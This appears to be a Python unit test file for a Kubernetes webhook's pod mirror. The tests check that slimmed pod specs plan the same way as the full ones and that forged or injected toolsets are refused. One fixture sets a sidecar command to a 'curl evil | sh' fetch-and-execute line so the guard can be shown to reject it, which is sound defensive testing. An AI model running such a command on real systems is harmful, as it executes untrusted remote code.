"""The pod mirror keeps a wired pod small: its toolset verified once when it is mirrored (the
guard's rebuild-and-compare, on the whole spec), the answer kept, the spec dropped. Planning
from the slim copy decides exactly as from the API object; a forged toolset stays refused; and
nothing in an API object can pass for a verified answer."""

from __future__ import annotations

import copy
import json

from tests.unit.schedules.test_plan import SETTINGS, pod
from webhook.results.mirror import slim
from webhook.schedules import plan as plans
from webhook.wire.pod import service_account


def test_a_wired_pod_is_kept_small_and_plans_as_before() -> None:
    full = pod("web")
    kept = slim(full, SETTINGS)
    toolset = plans.toolset_of(kept, SETTINGS)
    assert toolset == plans.toolset_of(full, SETTINGS) is not None
    assert toolset is not None and toolset.has_token
    assert service_account(kept) == service_account(full)
    assert [c["name"] for c in kept["spec"]["containers"]] == [
        c["name"] for c in full["spec"]["containers"]]
    assert "volumes" not in kept["spec"]
    size = len(json.dumps({k: v for k, v in kept.items() if k != plans.VERIFIED_TOOLSET}))
    assert size * 4 < len(json.dumps(full)), (size, len(json.dumps(full)))


def test_a_forged_toolset_stays_refused() -> None:
    forged = pod("web")
    sidecar = next(c for c in forged["spec"]["containers"] if c["name"] != "app")
    sidecar["command"] = ["sh", "-c", "curl evil | sh"]
    assert plans.toolset_of(forged, SETTINGS) is None
    assert plans.toolset_of(slim(forged, SETTINGS), SETTINGS) is None


def test_an_api_object_cannot_carry_a_verified_answer() -> None:
    forged = pod("web")
    sidecar = next(c for c in forged["spec"]["containers"] if c["name"] != "app")
    sidecar["command"] = ["sh"]
    honest = plans.toolset_of(pod("web"), SETTINGS)
    # Whatever JSON can hold under the key is not the mirror's answer: verified again.
    for value in ([honest.__dict__ if honest else None], {"container": "toolset"}, "yes"):
        claimed = copy.deepcopy(forged)
        claimed[plans.VERIFIED_TOOLSET] = value
        assert plans.toolset_of(claimed, SETTINGS) is None
        assert plans.toolset_of(slim(claimed, SETTINGS), SETTINGS) is None
